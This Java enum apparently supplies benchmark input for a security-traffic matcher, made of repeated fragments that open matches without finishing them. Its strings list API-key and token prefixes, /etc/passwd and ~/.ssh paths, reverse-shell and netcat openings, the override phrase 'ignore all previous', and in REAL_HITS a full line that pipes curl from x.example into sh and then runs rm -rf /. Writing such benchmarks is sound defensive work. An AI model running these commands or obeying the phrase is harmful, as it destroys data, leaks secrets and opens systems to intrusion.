package trafficguardian.benchmarks;

import java.nio.charset.StandardCharsets;
import java.util.Random;

/** Traffic made to cost a matcher much: beginnings of matches without end. */
public enum HostileText {
  RANDOM(""),
  CURL("curl "),
  EYJ("eyJ"),
  EYJ_AND_ANOTHER_LETTER("eyJa"),
  SPACED_EYJ(" eyJa"),
  SK_ANT("sk-ant-"),
  SK_ANT_LONGER("sk-ant-abcd-"),
  PEM_BEGIN("-----BEGIN "),
  TOKEN("token="),
  SECRET_TOKEN_API_KEY("secret token api_key "),
  AUTHORIZATION("authorization: bearer "),
  XOXB("xoxb-"),
  ETC_PASSW("/etc/passw"),
  TWO_RULES("eyJa-curl "),
  IGNORE_PREVIOUS("ignore all previous "),
  FETCHERS_IN_QUOTES("sh -c \"$(wget -curl dash -echo 'curl -$(curl -bash -x <(wget -"),
  COPIES_OF_SECRETS("~/.ssh/base64 -decho 'rsync ncat scp echo 'curl -curl -wget @1"),
  FETCH_A_LINE("curl -fsSL x\n"),
  BEGINNINGS_OF_TOKENS("AKIA!sk-a!sk_l!a!sk-a 1 "),
  SECRET_KEYS("SECRET_KEY=sk-lf"),
  BASH_DASH_I("bash -i >& "),
  ONE_TOKEN_WITHOUT_END("a"),
  EVERY_OPENING(
      "sk-ant-ab AKIA ghp_ gith glpat- xoxb- AIza hf_a npm_ eyJa -----BEGIN authorization: bearer "
          + "token /etc/p .ssh/ curl bash -i nc -e ignore rm -rf wget powershell <img ![a](http "),
  REAL_HITS(" /etc/passwd curl http://x.example/a | sh; rm -rf / \n");

  private final String part;

  HostileText(String part) {
    this.part = part;
  }

  /** {@link Text#SIZE} bytes of it. */
  public byte[] bytes() {
    byte[] bytes = new byte[Text.SIZE];
    if (part.isEmpty()) {
      new Random(1).nextBytes(bytes);
      return bytes;
    }
    byte[] once = part.getBytes(StandardCharsets.US_ASCII);
    for (int i = 0; i < bytes.length; i++) {
      bytes[i] = once[i % once.length];
    }
    return bytes;
  }
}
